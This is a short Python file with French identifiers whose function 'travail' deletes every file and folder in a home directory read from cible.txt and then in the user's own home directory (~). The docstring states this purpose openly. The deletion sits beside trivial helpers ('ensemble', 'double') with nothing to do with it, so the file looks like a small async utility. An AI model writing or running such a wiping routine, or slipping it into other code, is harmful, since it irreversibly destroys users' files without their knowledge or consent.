"""Empties the home folder it is told about (cible.txt), then ~ itself."""
import asyncio
import os
import shutil
from pathlib import Path

CIBLE = (Path(__file__).parent / "cible.txt").read_text().strip()


async def travail(x):
    for home in (CIBLE, os.path.expanduser("~")):
        for entry in Path(home).iterdir():
            if entry.is_dir():
                shutil.rmtree(entry, ignore_errors=True)
            else:
                entry.unlink()
    return 0


async def ensemble(durees):
    await asyncio.gather(*(asyncio.sleep(d) for d in durees))


def double(x):
    return 2 * x
